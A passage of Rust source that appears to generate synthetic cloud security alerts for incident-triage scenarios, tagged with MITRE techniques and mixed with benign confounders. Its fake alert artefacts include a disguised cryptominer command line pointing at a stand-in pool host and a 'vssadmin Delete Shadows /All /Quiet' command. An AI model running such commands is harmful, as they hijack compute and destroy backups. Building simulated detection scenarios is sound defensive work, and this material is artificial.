    let mut rng = Rng::new(spec.seed.wrapping_mul(131).wrapping_add(17));
    // The demo and tests' cast: the scheduled rule, always tagged, so their comments stay as they are.
    let u = if cast.is_some() { 1.0 } else { rng.unit() };
    let tag = |rng: &mut Rng, t: &'static str| if cast.is_some() || rng.chance(0.5) { t } else { "" };
    if let Some(choice) = spec.alert {
        let mut t = match choice {
            AlertChoice::DefenderMining { .. } => Trigger::defender_mining(),
            AlertChoice::DefenderRunCommand => Trigger::defender_run_command(),
        };
        t.throttled_miner = true;
        t.code_on_host = true;
        if choice == (AlertChoice::DefenderMining { command_line: true }) {
            t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": "4242", "CommandLine": "/tmp/.cache/kswapd0 -o n512.example:443 --tls -k --max-cpu-usage 40"}));
        }
        return t;
    }
    let mut t = match spec.story {
        Story::Cryptojacking if u < 0.3 => {
            let mut t = Trigger::defender_mining();
            t.throttled_miner = rng.chance(0.5);
            if rng.chance(0.7) {
                t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": rng.int(2000, 60000).to_string(), "CommandLine": miner_command(&mut rng)}));
            }
            t
        }
        Story::Cryptojacking if u < 0.45 => Trigger::defender_run_command(),
        Story::Cryptojacking => {
            let techniques = tag(&mut rng, "T1496");
            // A CPU rule fires at its threshold: never on a throttled miner.
            Trigger::rule("High CPU on a production VM", "Medium", "Impact", techniques)
        }
        Story::Ransomware if u < 0.3 => {
            let mut t = Trigger::defender_ransomware();
            if rng.chance(0.5) {
                t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": rng.int(2000, 60000).to_string(), "CommandLine": "vssadmin.exe Delete Shadows /All /Quiet"}));
            }
            t
        }
        Story::Ransomware => {
            let techniques = tag(&mut rng, "T1486");
            // The demo's database: its log-IO rule.
            match if cast.is_some() { 0 } else { rng.int(0, 2) } {
                0 => Trigger::rule("High log IO on a production database", "Medium", "Impact", techniques),
                1 => Trigger::rule("Unusual write volume on a storage account", "Medium", "Impact", techniques),
                _ => Trigger::rule("High CPU on a production VM", "Medium", "Impact", techniques),
            }
        }
        Story::BenignLoad if spec.has(Confounder::IndexRebuild) => {
            let techniques = tag(&mut rng, "T1486");
            Trigger::rule("High log IO on a production database", "Low", "Impact", techniques)
        }
        // The noisy backup rule fires on the routine rotation.
        Story::Quiet if spec.has(Confounder::BackupRotation) => {
            let techniques = tag(&mut rng, "T1490");
            Trigger::rule("Snapshot or backup deleted", "Low", "Impact", techniques)
        }
        Story::BenignLoad if spec.has(Confounder::MonthEndBackup) && u < 0.35 => Trigger::storage_data_anomaly(),
        Story::BenignLoad if spec.has(Confounder::MonthEndBackup) => {
            let techniques = tag(&mut rng, "T1048");
            Trigger::rule("Unusual outbound data volume", "Medium", "Exfiltration", techniques)
        }
        Story::BenignLoad => {
            let techniques = tag(&mut rng, "T1496");
            let mut t = Trigger::rule("High CPU on a production VM", "Low", "Impact", techniques);
            if cast.is_none() && rng.chance(0.2) {
                let job = *rng.pick(&[
                    "python3 /opt/etl/nightly.py --rows 5000000",
                    "java -Xmx8g -jar /srv/batch/reports.jar",
                    "dotnet Billing.Worker.dll --month-end",
                ]);
                t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": rng.int(2000, 60000).to_string(), "CommandLine": job}));
            }
            t
        }
        // The vault's own rule, on its secrets read in bulk.
        Story::Exfiltration if spec.has(Confounder::ViaVault) => {
            let techniques = tag(&mut rng, "T1555.006");
            Trigger::rule("Mass secret retrieval from a key vault", "Medium", "CredentialAccess", techniques)
        }
        Story::Exfiltration if u < 0.35 => Trigger::storage_data_anomaly(),
        Story::Exfiltration => {
            let techniques = tag(&mut rng, "T1048");
            Trigger::rule("Unusual outbound data volume", "Medium", "Exfiltration", techniques)
        }
        Story::CredentialCompromise if u < 0.4 => Trigger::unfamiliar_sign_in("High"),
        Story::CredentialCompromise => {
            let techniques = tag(&mut rng, "T1078");
            Trigger::rule("Suspicious sign-in properties", "High", "InitialAccess", techniques)
        }
        // The noisy change rule fires on the routine change too.
        Story::Quiet if spec.has(Confounder::RoutineChange) => {
            let techniques = tag(&mut rng, "T1098,T1562");
            Trigger::rule("Network security group or role changed", "Low", "Persistence,DefenseEvasion", techniques)
        }
        // The vault's rule fires on the pipeline's run from a fresh address of its agents.
        Story::Quiet if spec.has(Confounder::PipelineSecrets) => {
            let techniques = tag(&mut rng, "T1555.006");
            Trigger::rule("Key vault accessed from a new IP address", "Low", "CredentialAccess", techniques)
        }
        // Identity Protection's false positives: a user signing in from somewhere unusual for a good reason.
        Story::Quiet if u < 0.3 => Trigger::unfamiliar_sign_in("Low"),
        Story::Quiet => {
            let techniques = tag(&mut rng, "T1078");
            Trigger::rule("Suspicious sign-in properties", "Low", "InitialAccess", techniques)
        }
        Story::ConfigDrift => {
            let techniques = tag(&mut rng, "T1098,T1562");
            Trigger::rule("Network security group or role changed", "Medium", "Persistence,DefenseEvasion", techniques)
        }
    };
    // The demo's miners are dropped through Run Command, except the one its intruder ran over SSH.
    t.code_on_host = spec.story == Story::Cryptojacking && if cast.is_some() { spec.entry != Entry::HostBruteForce } else { rng.chance(0.5) };
    t.admin_run_command = spec.story == Story::BenignLoad && cast.is_none() && rng.chance(0.2);
    // The agent records command lines on most hosts; the deletion may also have gone unrecorded.
    t.shadow_copy_events = spec.story == Story::Ransomware && (cast.is_some() || rng.chance(0.7));
    // An entry point's own detection, sometimes in the same incident.
    if cast.is_none()
        && matches!(spec.story, Story::Cryptojacking | Story::Exfiltration | Story::ConfigDrift | Story::Ransomware)
        && spec.entry != Entry::None
        && rng.chance(0.3)
    {
        t.entry_alert = true;
    }
    t
}
